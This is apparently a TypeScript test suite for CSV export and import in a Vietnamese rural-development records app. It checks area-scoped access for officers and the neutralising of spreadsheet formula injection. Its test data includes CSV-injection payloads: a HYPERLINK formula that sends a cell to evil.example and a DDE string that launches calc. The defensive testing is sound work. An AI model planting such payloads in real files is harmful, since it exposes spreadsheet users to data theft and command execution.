// Exports an attacker would like (security issue 13): an officer's export holding another area's years,
// and cells a spreadsheet would run as formulas. Each export must still import back changing nothing.
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '../../src/access/roles.ts';
import { toCsv } from '../../src/lib/csv.ts';
import { createDatabase, type Database } from '../../src/db/client.ts';
import type { ImportKind } from '../../src/import/columns.ts';
import type { ImportSummary } from '../../src/import/index.ts';
import { exportCsv } from '../../src/import/template.ts';
import { CSRF_HEADER } from '../../src/server/yoga.ts';
import { toCsv as toCsvInTheBrowser } from '../../web/shared/csv.ts';
import { csvTable } from '../../web/widgets/rows.ts';
import { freshDatabase, providers, type TestDatabase } from '../support/databases.ts';
import { treeChanged } from '../support/fixtures.ts';
import { signedInAs, testServer } from '../support/viewers.ts';

const YEARLY_KINDS = ['PLANS', 'SATISFACTION_SURVEYS', 'NEW_RURAL_STATUSES'] as const;
const RECORD_KINDS: ImportKind[] = ['MODELS', 'EVALUATIONS', ...YEARLY_KINDS];

/** The data rows of an exported CSV, as cells. */
const rowsOf = (csv: string): string[][] => (parseCsv(csv, { bom: true }) as string[][]).slice(1);

/** Each row's natural key: unit or model and year for yearly records and evaluations, the first cell otherwise. */
const keysOf = (kind: ImportKind, csv: string): string[] =>
  rowsOf(csv)
    .map((row) => (kind === 'UNITS' || kind === 'MODELS' ? row[0]! : `${row[0]}/${row[1]}`))
    .sort();

describe.each(providers)('hostile exports on %s', (provider) => {
  let database: TestDatabase;
  let db: Database;
  let admin: string;

  async function ask(authorization: string, query: string, variables?: Record<string, unknown>) {
    const response = await testServer(db).fetch('http://localhost/graphql', {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/graphql-response+json', authorization },
      body: JSON.stringify({ query, variables }),
    });
    const body = (await response.json()) as { data?: any; errors?: { message: string }[] };
    if (body.errors?.length) throw new Error(body.errors.map((error) => error.message).join('\n'));
    return body.data;
  }

  const exportOf = async (authorization: string, kind: ImportKind): Promise<string> =>
    (await ask(authorization, `query($kind: ImportKind!) { exportSpreadsheet(kind: $kind) }`, { kind })).exportSpreadsheet;

  /** Imports a file through the API as a multipart upload, as the officer's browser would. */
  async function importAs(authorization: string, kind: ImportKind, csv: string): Promise<ImportSummary> {
    const body = new FormData();
    const query = `mutation($file: File!, $kind: ImportKind!) { importSpreadsheet(file: $file, kind: $kind) {
      written created updated unchanged problems { row column value messageVi messageEn } } }`;
    body.set('operations', JSON.stringify({ query, variables: { file: null, kind } }));
    body.set('map', JSON.stringify({ 0: ['variables.file'] }));
    body.set('0', new File([csv], 'xuat.csv', { type: 'text/csv' }));
    const response = await testServer(db).fetch('http://localhost/graphql', { method: 'POST', body, headers: { authorization, [CSRF_HEADER]: '1' } });
    const result = (await response.json()) as { data?: { importSpreadsheet: ImportSummary }; errors?: { message: string }[] };
    if (result.errors?.length) throw new Error(result.errors.map((error) => error.message).join('\n'));
    return result.data!.importSpreadsheet;
  }

  /** Everything an import may change: the rows of each table it writes, and the audit trail's length. */
  const snapshot = async () => ({
    ...Object.fromEntries(
      await Promise.all(
        (['unit', 'unitParent', 'model', 'evaluation', 'plan', 'satisfactionSurvey', 'newRuralStatus'] as const).map(async (table) => [
          table,
          await (db[table] as unknown as { findMany(args: object): Promise<unknown[]> }).findMany({ orderBy: { id: 'asc' } }),
        ]),
      ),
    ),
    audit: await db.auditEntry.count(),
  });

  const unitId = async (code: string) => (await db.unit.findUniqueOrThrow({ where: { code }, select: { id: true } })).id;

  beforeAll(async () => {
    database = await freshDatabase(provider);
    db = createDatabase(database.url);
    admin = await signedInAs(db, 'quan.tri', 'ADMIN');
    // P > A > (C until 2019, CA), P > B > (C from 2020, CB).
    const unit = async (code: string, kind: 'PROVINCE' | 'DISTRICT' | 'COMMUNE', parent?: string) => {
      const created = await db.unit.create({ data: { code, officialCode: code, name: `Đơn vị ${code}`, searchName: code.toLowerCase(), kind, level: kind } });
      if (parent) await db.unitParent.create({ data: { unitId: created.id, parentId: await unitId(parent) } });
    };
    await unit('P', 'PROVINCE');
    await unit('A', 'DISTRICT', 'P');
    await unit('B', 'DISTRICT', 'P');
    await unit('C', 'COMMUNE', 'A');
    await unit('CA', 'COMMUNE', 'A');
    await unit('CB', 'COMMUNE', 'B');
    await ask(admin, `mutation { moveUnit(code: "C", parent: "B", from: "2020-01-01") { code } }`);
    await db.field.create({ data: { code: 'NONG_THON_MOI', nameVi: 'Xây dựng nông thôn mới', nameEn: 'New rural construction' } });

    const records = `mutation {
      c2019: recordPlan(input: { unit: "C", year: 2019, documentNumber: "1/KH-UBND" }) { year }
      c2021: recordPlan(input: { unit: "C", year: 2021, documentNumber: "2/KH-UBND" }) { year }
      ca2021: recordPlan(input: { unit: "CA", year: 2021 }) { year }
      cb2019: recordPlan(input: { unit: "CB", year: 2019 }) { year }
      s2019: recordSatisfactionSurvey(input: { unit: "C", year: 2019, respondents: 100, satisfied: 81 }) { year }
      s2021: recordSatisfactionSurvey(input: { unit: "C", year: 2021, respondents: 120, satisfied: 99 }) { year }
      n2019: recordNewRuralStatus(input: { unit: "C", year: 2019, criteriaMet: 12 }) { year }
      n2021: recordNewRuralStatus(input: { unit: "C", year: 2021, criteriaMet: 15 }) { year }
      m2019: registerModel(input: { registrationKey: "MH-C-2019", kind: MODEL, holder: COLLECTIVE, title: "Mô hình 2019", unit: "C", field: "NONG_THON_MOI", startYear: 2019 }) { id }
      m2021: registerModel(input: { registrationKey: "MH-C-2021", kind: MODEL, holder: COLLECTIVE, title: "Mô hình 2021", unit: "C", field: "NONG_THON_MOI", startYear: 2021 }) { id }
      mca: registerModel(input: { registrationKey: "MH-CA", kind: MODEL, holder: COLLECTIVE, title: "Mô hình CA", unit: "CA", field: "NONG_THON_MOI", startYear: 2019 }) { id }
    }`;
    await ask(admin, records);
    await ask(
      admin,
      `mutation {
        e1: recordEvaluation(input: { model: "MH-C-2019", year: 2019, rating: EFFECTIVE }) { year }
        e2: recordEvaluation(input: { model: "MH-C-2019", year: 2021, rating: OUTSTANDING, recommendedForReplication: true }) { year }
        e3: recordEvaluation(input: { model: "MH-C-2021", year: 2021, rating: NOT_EFFECTIVE }) { year }
        e4: recordEvaluation(input: { model: "MH-CA", year: 2021, rating: EFFECTIVE }) { year }
      }`,
    );
  });
  afterAll(async () => {
    await db.$disconnect();
    await database.drop();
  });

  describe('a commune that moved from district A to district B on 2020-01-01', () => {
    const officers: [string, Role, string][] = [
      ['can.bo.a', 'DISTRICT_OFFICER', 'A'],
      ['can.bo.b', 'DISTRICT_OFFICER', 'B'],
      ['can.bo.tinh', 'PROVINCE_OFFICER', 'P'],
    ];
    // A model has no year: it is read, and exported, by every area its unit was ever in.
    const expected: Record<string, Partial<Record<ImportKind, string[]>>> = {
      A: {
        UNITS: ['A', 'C', 'CA'],
        MODELS: ['MH-C-2019', 'MH-C-2021', 'MH-CA'],
        EVALUATIONS: ['MH-C-2019/2019', 'MH-CA/2021'],
        PLANS: ['C/2019', 'CA/2021'],
        SATISFACTION_SURVEYS: ['C/2019'],
        NEW_RURAL_STATUSES: ['C/2019'],
      },
      B: {
        UNITS: ['B', 'C', 'CB'],
        MODELS: ['MH-C-2019', 'MH-C-2021'],
        EVALUATIONS: ['MH-C-2019/2021', 'MH-C-2021/2021'],
        PLANS: ['C/2021', 'CB/2019'],
        SATISFACTION_SURVEYS: ['C/2021'],
        NEW_RURAL_STATUSES: ['C/2021'],
      },
      P: {
        UNITS: ['A', 'B', 'C', 'CA', 'CB', 'P'],
        MODELS: ['MH-C-2019', 'MH-C-2021', 'MH-CA'],
        EVALUATIONS: ['MH-C-2019/2019', 'MH-C-2019/2021', 'MH-C-2021/2021', 'MH-CA/2021'],
        PLANS: ['C/2019', 'C/2021', 'CA/2021', 'CB/2019'],
        SATISFACTION_SURVEYS: ['C/2019', 'C/2021'],
        NEW_RURAL_STATUSES: ['C/2019', 'C/2021'],
      },
    };

    it.each(officers)('gives %s (%s of %s) exactly the years the commune was in the area', async (...officer) => {
      const authorization = await signedInAs(db, ...officer);
      for (const [kind, keys] of Object.entries(expected[officer[2]]!) as [ImportKind, string[]][]) {
        expect(keysOf(kind, await exportOf(authorization, kind)), kind).toEqual(keys);
      }
    });

    it.each(officers)('never names to %s (%s of %s) a record their reads do not show', async (...officer) => {
      const authorization = await signedInAs(db, ...officer);
      const fields = { PLANS: 'plans', SATISFACTION_SURVEYS: 'satisfactionSurveys', NEW_RURAL_STATUSES: 'newRuralStatuses' } as const;
      for (const kind of YEARLY_KINDS) {
        for (const key of keysOf(kind, await exportOf(authorization, kind))) {
          const [code, year] = key.split('/');
          const read = await ask(authorization, `query($code: String!) { unit(code: $code) { ${fields[kind]} { year } } }`, { code });
          expect(
            read.unit[fields[kind]].map((record: { year: number }) => String(record.year)),
            `${kind} ${key}`,
          ).toContain(year);
        }
      }
      const listed = await ask(authorization, `{ models(first: 100) { edges { node { registrationKey evaluations { year } } } } }`);
      const read = listed.models.edges.map(({ node }: { node: { registrationKey: string; evaluations: { year: number }[] } }) => node);
      const readModels = read.map((model: { registrationKey: string }) => model.registrationKey);
      const readEvaluations = read.flatMap((model: { registrationKey: string; evaluations: { year: number }[] }) =>
        model.evaluations.map(({ year }) => `${model.registrationKey}/${year}`),
      );
      for (const key of keysOf('MODELS', await exportOf(authorization, 'MODELS'))) expect(readModels, key).toContain(key);
      for (const key of keysOf('EVALUATIONS', await exportOf(authorization, 'EVALUATIONS'))) expect(readEvaluations, key).toContain(key);
    });

    it.each(officers)('takes back from %s (%s of %s) each export unchanged', async (...officer) => {
      const authorization = await signedInAs(db, ...officer);
      // Only those who keep the tree import units.
      const kinds = officer[1] === 'PROVINCE_OFFICER' ? ['UNITS' as const, ...RECORD_KINDS] : RECORD_KINDS;
      for (const kind of kinds) {
        const before = await snapshot();
        const summary = await importAs(authorization, kind, await exportOf(authorization, kind));
        expect(summary.problems, kind).toEqual([]);
        expect(summary, kind).toMatchObject({ written: true, created: 0, updated: 0, unchanged: expected[officer[2]]![kind]!.length });
        expect(await snapshot(), kind).toEqual(before);
      }
    });
  });

  describe('cells a spreadsheet would run as formulas', () => {
    // The characters OWASP names (= + - @ tab CR), and the apostrophe that marks neutralised text.
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=1+1", "'Mô hình"];

    beforeAll(async () => {
      const cb = await unitId('CB');
      const field = await db.field.findUniqueOrThrow({ where: { code: 'NONG_THON_MOI' } });
      for (const [index, text] of hostile.entries()) {
        // Written as stored data, not through the API, which trims what an officer types.
        await db.model.create({
          data: {
            registrationKey: `-HS.${index}`,
            kind: 'EXEMPLAR',
            holder: 'INDIVIDUAL',
            title: text,
            description: `${text} mô tả`,
            unitId: cb,
            fieldId: field.id,
            startYear: 2020,
            origin: 'ENTERED',
          },
        });
      }
      await db.unit.update({ where: { code: 'CB' }, data: { note: '=1+1' } });
      await treeChanged(db);
      await db.plan.update({ where: { unitId_year: { unitId: cb, year: 2019 } }, data: { documentNumber: '-12/KH-UBND' } });
    });

    it('writes each such text cell behind an apostrophe, quoted where CSV needs it', async () => {
      const exported = await exportCsv(db, 'MODELS');
      const rows = rowsOf(exported).filter((row) => row[0]!.startsWith("'-HS."));
      expect(rows.map((row) => [row[0], row[3], row[4]])).toEqual(hostile.map((text, index) => [`'-HS.${index}`, `'${text}`, `'${text} mô tả`]));
      expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")"`);
      expect(exported).toContain(`"'\r=1+1"`);
      expect(exported).toContain(`,'\t=1+1,`);
      expect(exported).toContain(`,''=1+1,`);
      // The other cells of those rows are lists, codes, years: written as they are.
      expect(rows[0]!.slice(1, 3).concat(rows[0]!.slice(5, 8))).toEqual(['EXEMPLAR', 'INDIVIDUAL', 'CB', 'NONG_THON_MOI', '2020']);
      expect(
        rowsOf(await exportCsv(db, 'UNITS'))
          .find((row) => row[0] === 'CB')!
          .at(-1),
      ).toBe("'=1+1");
      expect(rowsOf(await exportCsv(db, 'PLANS')).find((row) => row[0] === 'CB')![2]).toBe("'-12/KH-UBND");
    });

    it('imports each export back with the stored text identical', async () => {
      for (const kind of ['UNITS', ...RECORD_KINDS] as ImportKind[]) {
        const before = await snapshot();
        const summary = await importAs(admin, kind, await exportCsv(db, kind));
        expect(summary.problems, kind).toEqual([]);
        expect(summary, kind).toMatchObject({ created: 0, updated: 0 });
        expect(await snapshot(), kind).toEqual(before);
      }
      const stored = await db.model.findMany({ where: { registrationKey: { startsWith: '-HS.' } }, orderBy: { registrationKey: 'asc' } });
      expect(stored.map((model) => model.title)).toEqual(hostile);
    });

    it('reads a leading apostrophe as the mark of text, as Excel does', async () => {
      const header = 'Mã đăng ký,Loại,Chủ thể,Tên mô hình,Mô tả,Mã đơn vị,Mã lĩnh vực,Năm bắt đầu';
      const summary = await importAs(
        admin,
        'MODELS',
        `${header}\r\n'MH-NEW,'MODEL,'COLLECTIVE,'=1+1,'',CB,NONG_THON_MOI,'2021\r\nMH-NEW2,MODEL,COLLECTIVE,x,',CB,NONG_THON_MOI,2021\r\n`,
      );
      expect(summary).toMatchObject({ created: 2, problems: [] });
      expect(await db.model.findUniqueOrThrow({ where: { registrationKey: 'MH-NEW' } })).toMatchObject({ title: '=1+1', description: "'", startYear: 2021 });
      expect(await db.model.findUniqueOrThrow({ where: { registrationKey: 'MH-NEW2' } })).toMatchObject({ description: null });
      const lone = await importAs(admin, 'MODELS', `${header}\r\nMH-NEW3,MODEL,COLLECTIVE,',,CB,NONG_THON_MOI,2021\r\n`);
      expect(lone.problems).toEqual([expect.objectContaining({ row: 2, column: 'Tên mô hình', value: "'", messageEn: 'The cell is required but empty.' })]);
    });
  });
});

describe('CSV written for a spreadsheet', () => {
  it('neutralises text that starts a formula, and the apostrophe itself, but never a number', () => {
    const cells = ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', "'x", 'x=1', ' =1', '', null];
    expect(toCsv(['a'], [cells, [-0.25, 0, 2019]])).toBe(`\uFEFFa\r\n'=1+1,'+1,'-1,'@A1,'\tx,"'\rx",''x,x=1," =1",,\r\n-0.25,0,2019\r\n`);
  });

  it('is what the dashboard and the widgets download', () => {
    expect(toCsvInTheBrowser).toBe(toCsv);
    const rows = {
      by: 'unit' as const,
      rows: [{ key: 'X1', name: '=HYPERLINK("http://evil.example")', numerator: 1, denominator: 2, ratio: 0.5, target: 1, status: 'BELOW' }],
    };
    const { header, cells } = csvTable(rows as Parameters<typeof csvTable>[0], 'vi');
    expect(toCsvInTheBrowser(header, cells).split('\r\n')[1]).toBe(`X1,"'=HYPERLINK(""http://evil.example"")",1,2,0.5,1`);
  });
});
